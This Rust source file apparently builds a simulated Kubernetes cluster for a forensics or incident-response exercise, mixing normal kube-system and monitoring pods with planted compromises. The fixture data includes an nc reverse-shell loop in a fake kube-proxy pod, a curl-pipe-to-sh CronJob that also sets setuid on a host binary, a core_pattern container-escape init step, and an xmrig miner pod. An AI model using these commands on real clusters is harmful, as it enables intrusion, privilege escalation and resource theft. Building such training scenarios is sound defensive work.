//! Namespaces `kube-system`, `monitoring` and `default`: what belongs there, and what only looks as if it did.

use super::objects::{self, cron_job, network_policy};
use super::pod::{Kind, Pod, State};
use super::recording::{Clock, RecordedContainer};
use super::{hostile, text};
use serde_json::{Value, json};

/// The container that has no shell.
pub(super) const DISTROLESS: (&str, &str, &str) = ("kube-system", "coredns-7c65d6cfc9-w8kd2", "coredns");
const PROXY: &str = "kube-proxy-4h6vq";
const LOOK_ALIKE: &str = "kube-proxy-x7";
const AGENT: &str = "metrics-agent-5c9f";
const WORKER: &str = "worker-7f6c9d8b5-9xkqz";
const EXPORTER: &str = "node-exporter-tn5bz";
const PROXY_IMAGE: &str = "registry.k8s.io/kube-proxy:v1.36.3";

/// The API objects of the three namespaces, and the nodes.
pub(super) fn objects(clock: Clock) -> Vec<Value> {
    let mut all = vec![
        objects::node(clock, "node1", "10.0.0.11", 7_776_000),
        objects::node(clock, "node2", "10.0.0.12", 7_776_000),
    ];
    all.extend(kube_system(clock));
    all.extend(monitoring(clock));
    all.extend(default(clock));
    all
}

fn named(clock: Clock, name: &str) -> Value {
    objects::namespace(clock, name, 7_776_000, json!({ "kubernetes.io/metadata.name": name }))
}

fn kube_system(clock: Clock) -> Vec<Value> {
    let running = |age| State::Running { age };
    vec![
        named(clock, "kube-system"),
        Pod::new(clock, "kube-system", PROXY, 7_000_000, "node1")
            .owned_by("DaemonSet", "kube-proxy")
            .labels(json!({ "k8s-app": "kube-proxy" }))
            .spec("hostNetwork", json!(true))
            .spec("serviceAccountName", json!("kube-proxy"))
            .container(Kind::App, "kube-proxy", PROXY_IMAGE, json!({ "securityContext": { "privileged": true } }), running(7_000_000))
            .build(),
        Pod::new(clock, "kube-system", LOOK_ALIKE, 2703, "node2")
            .labels(json!({ "k8s-app": "kube-proxy" }))
            .container(Kind::App, "kube-proxy", "docker.io/library/alpine:latest", json!({ "command": ["sh", "-c", "while true; do nc 203.0.113.9 4444 -e sh; sleep 60; done"] }), running(2700))
            .build(),
        Pod::new(clock, "kube-system", DISTROLESS.1, 6_900_000, "node2")
            .owned_by("ReplicaSet", "coredns-7c65d6cfc9")
            .labels(json!({ "k8s-app": "kube-dns" }))
            .container(Kind::App, DISTROLESS.2, "registry.k8s.io/coredns/coredns:v1.13.1", json!({ "args": ["-conf", "/etc/coredns/Corefile"] }), running(6_900_000))
            .build(),
        Pod::new(clock, "kube-system", AGENT, 3600, "node1")
            .spec("serviceAccountName", json!("metrics-agent"))
            .container(Kind::Init, "tune", "docker.io/library/busybox:1.36", json!({ "securityContext": { "privileged": true }, "command": ["sysctl", "-w", "kernel.core_pattern=|/tmp/x"] }), State::Ended { age: 3598, end: 3597, exit: 0 })
            .container(Kind::App, "agent", "docker.io/library/alpine:3.20", json!({ "command": ["sh", "-c", "/agent"] }), State::CrashLoop { restarts: 17, end: 90 })
            .build(),
        node_clean(clock),
        objects::service_account(clock, "kube-system", "default", 7_776_000, json!({})),
        objects::service_account(clock, "kube-system", "kube-proxy", 7_776_000, json!({})),
        objects::service_account(clock, "kube-system", "metrics-agent", 3700, json!({ "secrets": [{ "name": "metrics-agent-token" }] })),
    ]
}

fn node_clean(clock: Clock) -> Value {
    let container = json!({ "name": "clean", "image": "docker.io/library/alpine:3.20", "command": ["sh", "-c"],
        "args": ["apk add -q curl; curl -s http://198.51.100.7/x|sh"] });
    let prepare = json!({ "name": "prepare", "image": "docker.io/library/alpine:3.20", "command": ["chmod"],
        "args": ["4755", "/host/usr/bin/env"], "securityContext": { "privileged": true } });
    let spec = json!({ "schedule": "*/5 * * * *", "concurrencyPolicy": "Allow", "suspend": false,
        "successfulJobsHistoryLimit": 0, "failedJobsHistoryLimit": 0 });
    cron_job(
        clock,
        "kube-system",
        "node-clean",
        3500,
        spec,
        json!({ "restartPolicy": "OnFailure", "hostNetwork": true, "initContainers": [prepare], "containers": [container] }),
    )
}

fn monitoring(clock: Clock) -> Vec<Value> {
    let mount = json!({ "volumeMounts": [{ "name": "proc", "mountPath": "/host/proc", "readOnly": true }] });
    let scrape = json!({ "podSelector": { "matchLabels": { "app": "node-exporter" } }, "policyTypes": ["Ingress"],
        "ingress": [{ "ports": [{ "protocol": "TCP", "port": 9100 }] }] });
    vec![
        named(clock, "monitoring"),
        Pod::new(clock, "monitoring", EXPORTER, 6_000_000, "node1")
            .owned_by("DaemonSet", "node-exporter")
            .labels(json!({ "app": "node-exporter" }))
            .spec("hostNetwork", json!(true))
            .spec("volumes", json!([{ "name": "proc", "hostPath": { "path": "/proc", "type": "" } }]))
            .container(
                Kind::App,
                "node-exporter",
                "quay.io/prometheus/node-exporter:v1.9.1",
                mount,
                State::Running { age: 6_000_000 },
            )
            .build(),
        network_policy(clock, "monitoring", "scrape", 6_000_000, scrape),
        objects::service_account(clock, "monitoring", "default", 7_700_000, json!({})),
    ]
}

fn default(clock: Clock) -> Vec<Value> {
    let miner = json!({ "args": ["-o", "stratum+tcp://pool.example:3333", "-u", "4ForensysDemoWallet", "--cpu-priority", "5"] });
    let keys = json!([{ "name": "keys", "secret": { "secretName": "tools-keys" } }]);
    let deny = json!({ "podSelector": {}, "policyTypes": ["Ingress"] });
    vec![
        named(clock, "default"),
        Pod::new(clock, "default", WORKER, 1803, "node2")
            .owned_by("ReplicaSet", "worker-7f6c9d8b5")
            .labels(json!({ "app": "worker" }))
            .container(Kind::App, "worker", "docker.io/xmrig/xmrig:6.21", miner, State::Running { age: 1800 })
            .build(),
        Pod::new(clock, "default", "tools", 902, "node1")
            .phase("Pending")
            .spec("volumes", keys)
            .container(
                Kind::App,
                "tools",
                "registry.example/tools:3",
                json!({}),
                State::Waiting { reason: "ContainerCreating", message: "" },
            )
            .build(),
        unscheduled(clock),
        network_policy(clock, "default", "default-deny", 5_000_000, deny),
        objects::service_account(clock, "default", "default", 7_776_000, json!({})),
    ]
}

/// A pod that no node took: it has no container statuses at all.
fn unscheduled(clock: Clock) -> Value {
    let mut pod = Pod::new(clock, "default", "checkout-8d5f", 1502, "")
        .phase("Pending")
        .container(
            Kind::App,
            "checkout",
            "registry.example/shop/checkout:1",
            json!({}),
            State::Waiting { reason: "", message: "" },
        )
        .build();
    if let Some(status) = pod.get_mut("status").and_then(Value::as_object_mut) {
        status.remove("containerStatuses");
        status.insert(
            "conditions".to_owned(),
            json!([{ "type": "PodScheduled", "status": "False", "reason": "Unschedulable",
            "message": "0/2 nodes are available: 2 Insufficient cpu.", "lastTransitionTime": clock.text(1500) }]),
        );
    }
    pod
}

/// What the containers of the three namespaces printed and hold.
pub(super) fn containers(clock: Clock) -> Vec<RecordedContainer> {
    let text = |raw| text::log(clock, raw);
    let (namespace, pod, container) = DISTROLESS;
    vec![
        RecordedContainer::new("kube-system", PROXY, "kube-proxy").printed(text(include_str!("logs/kube_proxy.log"))),
        RecordedContainer::new("kube-system", LOOK_ALIKE, "kube-proxy")
            .printed(text(include_str!("logs/look_alike.log"))),
        RecordedContainer::new(namespace, pod, container).printed(text(include_str!("logs/coredns.log"))).shells(&[]),
        RecordedContainer::new("kube-system", AGENT, "tune").printed(text(include_str!("logs/tune.log"))),
        RecordedContainer::new("kube-system", AGENT, "agent").printed(text(include_str!("logs/agent.log"))),
        RecordedContainer::new("monitoring", EXPORTER, "node-exporter")
            .printed(text(include_str!("logs/node_exporter.log"))),
        RecordedContainer::new("default", WORKER, "worker").printed(hostile::miner(clock, 1790)),
    ]
}
